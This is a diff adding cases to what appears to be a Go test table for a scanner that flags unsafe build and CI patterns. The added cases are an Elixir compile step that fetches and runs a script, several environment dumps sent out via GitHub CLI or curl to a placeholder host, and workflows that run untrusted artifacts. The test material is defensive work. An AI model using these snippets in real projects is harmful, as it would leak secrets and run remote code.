@@ -108,6 +108,9 @@ var registry = []Rule{
 		{"Dockerfile", "FROM debian:12\nRUN wget -O /usr/local/bin/gosu https://x.invalid/gosu-amd64; \\\n\twget -O /usr/local/bin/gosu.asc https://x.invalid/gosu-amd64.asc; \\\n\tgpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; \\\n\tchmod +x /usr/local/bin/gosu; \\\n\tgosu --version", 0, true},
 		{"CMakeLists.txt", "file(DOWNLOAD https://x.invalid/dep.cmake ${CMAKE_BINARY_DIR}/dep.cmake\n  EXPECTED_HASH SHA256=5f1c2b7e39c0b4d8e1a5f7e0c3b9d2a6f4e8c1b0a7d3e5f9c2b4a6d8e0f1c3b5)\ninclude(${CMAKE_BINARY_DIR}/dep.cmake)", 0, true},
 		{"CMakeLists.txt", "file(DOWNLOAD https://x.invalid/dep.cmake ${CMAKE_BINARY_DIR}/dep.cmake)\ninclude(${CMAKE_BINARY_DIR}/dep.cmake)", 2, false},
+		// Elixir: a mix compiler step that runs what curl printed.
+		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 4, false},
+		{"lib/m.ex", "defmodule M do\n  def fetch do\n    {_, 0} = System.cmd(\"curl\", [\"-fsSLo\", \"priv/data.json\", \"https://x.invalid/data.json\"])\n    {out, 0} = System.cmd(\"git\", [\"rev-parse\", \"HEAD\"])\n    out\n  end\nend", 0, true},
 		// Printing a digest checks nothing; checking one file leaves another unchecked.
 		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\nsha256sum i.sh\nbash i.sh", 3, false},
 		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\ncurl -fsSLo t.tgz https://x.invalid/t.tgz\necho \"$SHA  t.tgz\" | sha256sum -c -\nbash i.sh", 4, false},
@@ -185,6 +188,11 @@ var registry = []Rule{
 			{"x.sh", "cat ~/.npmrc > /tmp/n\nopenssl enc -aes-256-cbc -k k -in /tmp/n -out /tmp/n.enc\nrclone copy /tmp/n.enc drop:bucket", 3, false},
 			{"x.sh", "env > /tmp/e\npython3 - <<'EOF'\nimport requests\nrequests.post('https://x.invalid', data=open('/tmp/e').read())\nEOF", 2, false},
 			{"ci/report.ps1", "Invoke-RestMethod -Uri https://x.invalid/u -Method Post -InFile ~/.aws/credentials", 0, false},
+			// Published on GitHub: a comment's body file, an API field read from the file.
+			{"x.sh", "env > e.txt\ngh issue comment 1 --body-file e.txt", 2, false},
+			{"x.sh", "printenv | base64 > e.txt\ngh api -X POST repos/o/r/issues -F body=@e.txt", 2, false},
+			{"x.sh", "env > e.txt\ncurl --data-urlencode \"d@e.txt\" https://x.invalid/u", 2, false},
+			{"x.sh", "gh release create v1 --notes-file CHANGELOG.md dist/*", 0, true},
 			// Task's vars and templates, a command folded over lines (- >-), tasks sharing files.
 			{"Taskfile.yml", "version: '3'\nvars:\n  OUT: .cov\ntasks:\n  meta:\n    cmds:\n      - printenv > {{.OUT}}/meta.env\n  push:\n    cmds:\n      - >-\n        curl -sS\n        --upload-file {{.OUT}}/meta.env\n        https://x.invalid/put", 11, false},
 			// Jenkins: what withCredentials binds, written to a file by writeFile, sent by a later sh step.
@@ -374,6 +382,10 @@ var registry = []Rule{
 			// A package or requirements list from the artifact installs the pull request's code.
 			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: ${{ runner.temp }}/dist\n      - run: pip install \"$RUNNER_TEMP\"/dist/*.whl", 12, false},
 			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: ${{ runner.temp }}/out\n      - run: ${{ runner.temp }}/out/bin/report --post", 12, false},
+			// Unpacked over the checkout, an artifact may replace any file a build reads.
+			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n      - run: npm ci && npm run deploy", 12, false},
+			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: pr\n      - run: unzip pr/site.zip -d site && ./site/deploy.sh", 12, false},
+			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: gh run download ${{ github.event.workflow_run.id }} -D \"$RUNNER_TEMP/a\"\n        env:\n          GH_TOKEN: ${{ github.token }}\n      - run: python scripts/comment.py \"$RUNNER_TEMP/a/report.md\"", 0, true},
 			// Unpacked outside the workspace, the artifact cannot replace the
 			// checkout's scripts: one that only reads it runs the base branch's code.
 			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    permissions:\n      pull-requests: write\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: ${{ runner.temp }}/comment\n      - run: python scripts/comment.py \"$RUNNER_TEMP/comment/body.md\"\n      - run: npm ci && node scripts/post.js", 0, true},
